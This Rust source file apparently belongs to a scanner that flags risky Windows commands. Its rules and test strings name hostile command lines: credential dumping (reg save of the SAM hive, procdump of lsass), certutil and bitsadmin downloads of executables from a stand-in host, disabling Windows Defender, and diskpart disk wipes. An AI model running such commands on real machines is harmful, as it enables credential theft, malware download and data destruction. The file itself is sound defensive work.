//! Rules on Windows: its accounts, registry, tasks, services and the programs of its own that fetch or run what they are
//! given. Owns nothing about files, nor about disks and protection, which other systems have as well.

use super::{Hit, Rule, Scene, Shelf, When, effects::run};
use crate::{
    effect::{Effect, Kinds},
    finding::{Category, Confidence},
    risk::Severity,
};

pub(super) static SHELF: Shelf = Shelf {
    programs: &[
        "attrib",
        "bitsadmin",
        "certutil",
        "cipher",
        "cmstp",
        "desktopimgdownldr",
        "diskpart",
        "dism",
        "fsutil",
        "hh",
        "icacls",
        "installutil",
        "logoff",
        "manage-bde",
        "msiexec",
        "net",
        "netsh",
        "ntdsutil",
        "odbcconf",
        "pnputil",
        "procdump",
        "procdump64",
        "psexec",
        "psexec64",
        "reg",
        "runas",
        "rundll32",
        "sc",
        "schtasks",
        "takeown",
        "vaultcmd",
        "winrs",
        "wmic",
        "wsl",
    ],
    rules: RULES,
};

const WINDOWS: Rule = Rule {
    category: Category::System,
    severity: Severity::High,
    reversible: true,
    remedy: "let a person who looks after the machine do this",
    ..Rule::LOSS
};

static RULES: &[Rule] = &[
    Rule {
        id: "windows.account.change",
        category: Category::Privilege,
        message: "an account of the machine or the directory, or what it may do, is changed",
        remedy: "let the person who manages the accounts do this",
        when: When::Noted,
        fires: &[
            "pwsh -c 'New-LocalUser helper -NoPassword'",
            "pwsh -c 'Add-LocalGroupMember -Group Administrators -Member helper'",
            "pwsh -c 'Set-ADAccountPassword bob'",
        ],
        quiet: &["pwsh -c 'Get-LocalUser'", "pwsh -c 'Get-ADUser bob'"],
        ..WINDOWS
    },
    Rule {
        id: "windows.cmdlet.remove",
        confidence: Confidence::Medium,
        category: Category::Destruction,
        message: "a cmdlet removes, stops or switches off something of the machine or of a service",
        remedy: "see what it would do with `-WhatIf`",
        reversible: false,
        when: When::Noted,
        fires: &[
            "pwsh -c 'Remove-VM web -Force'",
            "pwsh -c 'Remove-AzResourceGroup -Name rg -Force'",
            "pwsh -c 'Uninstall-WindowsFeature Web-Server'",
            "pwsh -c 'Get-CimInstance Win32_ShadowCopy | Remove-CimInstance'",
        ],
        quiet: &[
            "pwsh -c 'Remove-Variable x'",
            "pwsh -c 'Remove-VM web -WhatIf'",
            "pwsh -c 'Get-VM'",
            "pwsh -c 'Stop-Transcript'",
        ],
        ..WINDOWS
    },
    Rule {
        id: "windows.cmdlet.change",
        confidence: Confidence::Medium,
        category: Category::System,
        message: "a cmdlet changes something of the machine, of a directory, or of a service that others use",
        remedy: "see what it would do with `-WhatIf`",
        when: When::Noted,
        fires: &[
            "pwsh -c 'Set-Mailbox ceo -ForwardingSmtpAddress x@example.com'",
            "pwsh -c 'New-AzVM -Name web'",
            "pwsh -c '$null = Set-VM web -MemoryStartupBytes 1GB'",
        ],
        quiet: &[
            "pwsh -c 'Get-Mailbox ceo'",
            "pwsh -c 'Set-AzContext dev'",
            "pwsh -c 'New-AzVM -Name web -WhatIf'",
        ],
        ..WINDOWS
    },
    Rule {
        id: "windows.message.send",
        category: Category::Exfiltration,
        message: "a letter is sent in the name of whoever runs this",
        remedy: "let the person read it and send it",
        reversible: false,
        when: When::Noted,
        fires: &[
            "pwsh -c 'Send-MailMessage -To x@example.com -Subject hi -SmtpServer mail.example.com'",
        ],
        quiet: &["pwsh -c 'Get-Help Send-MailMessage'"],
        ..WINDOWS
    },
    Rule {
        id: "windows.registry.delete",
        category: Category::Destruction,
        message: "keys or values of the registry are deleted",
        remedy: "keep a copy first: `reg export KEY FILE`",
        reversible: false,
        when: When::Command(&["reg delete|DELETE|Delete", "reg restore|load|RESTORE"]),
        fires: &[
            "reg delete HKLM\\\\Software\\\\X /f",
            "reg.exe delete 'HKCU\\Software\\X' /v y /f",
        ],
        quiet: &["reg query HKLM\\\\Software\\\\X", "reg export HKCU\\\\X x.reg"],
        ..WINDOWS
    },
    Rule {
        id: "windows.registry.machine",
        message: "the machine's part of the registry is changed",
        when: When::Command(&["reg add|ADD|import|IMPORT HKLM*|hklm*|HKEY_LOCAL_MACHINE*"]),
        fires: &[
            "reg add 'HKLM\\Software\\Policies\\X' /v y /d 1 /f",
            "pwsh -c 'Set-ItemProperty -Path HKLM:/Software/X -Name y -Value 1'",
        ],
        quiet: &["reg query 'HKLM\\Software\\X'", "reg add 'HKCU\\Software\\Acme' /v y /d 1 /f"],
        ..WINDOWS
    },
    Rule {
        id: "windows.persistence.task",
        category: Category::Persistence,
        message: "something is made to start by itself: a task, a service, or a value of the registry",
        when: When::Noted,
        fires: &[
            "pwsh -c 'Register-ScheduledTask -TaskName x'",
            "pwsh -c 'New-Service -Name x -BinaryPathName y'",
        ],
        quiet: &["pwsh -c 'Get-ScheduledTask'", "pwsh -c 'Get-Service'"],
        ..WINDOWS
    },
    Rule {
        id: "windows.remote.command",
        category: Category::Execution,
        message: "commands are run on another machine, or this one is opened to them",
        when: When::Command(&[
            "psexec|psexec64 *",
            "winrs *",
            "wmic /node:*",
            "netsh interface portproxy add|set",
        ]),
        fires: &[
            "psexec '\\\\web1' cmd",
            "winrs -r:web1 ipconfig",
            "netsh interface portproxy add v4tov4 listenport=80 connectaddress=192.0.2.1",
            "pwsh -c 'Enter-PSSession -ComputerName web1'",
            "pwsh -c 'Invoke-Command -ComputerName web1 -ScriptBlock { Get-Date }'",
        ],
        quiet: &["pwsh -c 'Invoke-Command -ScriptBlock { Get-Date }'", "psexec -?"],
        ..WINDOWS
    },
    Rule {
        id: "windows.task.delete",
        category: Category::Destruction,
        message: "scheduled tasks or services are deleted, stopped or set up anew",
        when: When::Command(&[
            "schtasks /delete|/Delete|/DELETE|/change|/Change|/end",
            "sc delete|config|stop|failure|sdset",
        ]),
        fires: &["schtasks /delete /tn '*' /f", "sc config WinDefend start= disabled"],
        quiet: &["schtasks /query", "sc query"],
        ..WINDOWS
    },
    Rule {
        id: "windows.program.fetches",
        category: Category::Execution,
        message: "a program of Windows is used for what it was not made for: to fetch code or to run it",
        remedy: "fetch it with `curl -O URL`, read it, and check its sum",
        when: When::Command(&[
            "certutil -urlcache|-URLCache|-verifyctl|-decode|-decodehex",
            "certutil /urlcache|/decode",
            "bitsadmin /transfer|/Transfer|/create|/addfile|/SetNotifyCmdLine",
            "rundll32 *javascript:*|*http:*|*https:*|*comsvcs*|*shell32*",
            "msiexec … http:*|https:*",
            "wmic process call create",
            "wmic … /node:*",
            "installutil *",
            "odbcconf *",
            "cmstp *",
            "desktopimgdownldr *",
            "hh http*",
        ]),
        fires: &[
            "certutil -urlcache -split -f http://x.example/a.exe a.exe",
            "bitsadmin /transfer job http://x.example/a.exe 'c:\\a.exe'",
            "wmic process call create 'cmd /c x'",
        ],
        quiet: &["certutil -hashfile x.zip SHA256", "wmic cpu get name", "bitsadmin /list"],
        ..WINDOWS
    },
    Rule {
        id: "windows.permission.wide",
        category: Category::Permission,
        message: "files are given to everybody, or taken from their owner",
        when: When::Command(&[
            "icacls … *Everyone:*|*everyone:*|*S-1-1-0*|*Users:F*|*Users:(F)*|*Users:(OI)(CI)F*",
            "icacls … /reset|/setowner",
            "net share *=*",
            "takeown *",
        ]),
        fires: &[
            "icacls 'C:\\' /grant Everyone:F /T",
            "net share c=C:/",
            "takeown /f 'C:\\Windows' /r",
        ],
        quiet: &["icacls build", "icacls build /save acl.txt", "net share"],
        ..WINDOWS
    },
    Rule {
        id: "windows.secrets.dump",
        category: Category::Credentials,
        severity: Severity::Critical,
        message: "the passwords that Windows keeps are taken out of it",
        reversible: false,
        when: When::Command(&[
            "reg save|SAVE|export *SAM|*sam|*SECURITY|*SYSTEM",
            "ntdsutil *",
            "procdump|procdump64 … *lsass*",
            "rundll32 … *comsvcs*",
        ]),
        fires: &["reg save 'HKLM\\SAM' sam.hiv", "procdump -ma lsass.exe"],
        quiet: &["reg save 'HKCU\\Software\\X' x.hiv", "procdump -ma app.exe"],
        ..WINDOWS
    },
    Rule {
        id: "windows.secrets.read",
        category: Category::Credentials,
        message: "passwords or keys that Windows or a vault keeps are read",
        remedy: "let the program that needs the secret read it itself",
        when: When::Command(&["netsh wlan … key=clear", "vaultcmd /listcreds*"]),
        fires: &[
            "netsh wlan show profile name=home key=clear",
            "pwsh -c 'Get-StoredCredential -Target web'",
            "pwsh -c 'Get-AzKeyVaultSecret -VaultName v -Name n -AsPlainText'",
        ],
        quiet: &[
            "netsh wlan show profiles",
            "pwsh -c 'Get-AzKeyVault'",
            "pwsh -c 'Test-Path ./secret.txt'",
        ],
        ..WINDOWS
    },
    Rule {
        id: "windows.disk.script",
        category: Category::Destruction,
        message: "disks are divided or emptied by a list of orders",
        remedy: "let it only list them: `list disk`",
        reversible: false,
        when: When::Effect(Kinds::RUN, orders_disks),
        fires: &["printf 'select disk 1\nclean\n' | diskpart", "cat orders.txt | diskpart.exe"],
        quiet: &["echo 'list disk' | diskpart", "diskpart /?"],
        ..WINDOWS
    },
    Rule {
        id: "windows.system.change",
        message: "parts of Windows are removed, switched off or wiped",
        reversible: false,
        when: When::Command(&[
            "dism … /disable-feature|/Disable-Feature|/remove-package|/Remove-Package",
            "diskpart /s",
            "cipher /w*|/W*",
            "manage-bde -off|-delete|-forcerecovery",
            "fsutil usn deletejournal",
            "fsutil file setzerodata|setvaliddata",
            "wsl --unregister",
            "pnputil /delete-driver",
            "logoff",
        ]),
        fires: &[
            "wsl --unregister Ubuntu",
            "dism /online /disable-feature /featurename:x",
            "fsutil usn deletejournal /D 'C:'",
        ],
        quiet: &["wsl --list", "dism /online /get-features", "manage-bde -status"],
        ..WINDOWS
    },
    Rule {
        id: "windows.privilege.other",
        category: Category::Privilege,
        message: "a program is run with the rights of another account",
        when: When::Command(&["runas /user:*|/savecred", "net … /active:yes"]),
        fires: &["runas /user:administrator cmd", "net user guest /active:yes"],
        quiet: &["net user", "runas /?"],
        ..WINDOWS
    },
];

/// `… | diskpart`: what is piped in are its orders.
fn orders_disks(effect: &Effect, _: &Scene<'_>) -> Option<Hit> {
    const LOOKS: &[&str] = &["detail", "exit", "help", "list", "rem", "select"];
    let run =
        run(effect).filter(|run| matches!(run.program.as_str(), "diskpart" | "diskpart.exe"))?;
    let orders = run.input.as_ref()?;
    let only_looks = orders.as_known().is_some_and(|orders| {
        let firsts = orders.lines().filter_map(|line| line.split_whitespace().next());
        firsts.map(str::to_ascii_lowercase).all(|word| LOOKS.contains(&word.as_str()))
    });
    (!only_looks).then(Hit::default)
}
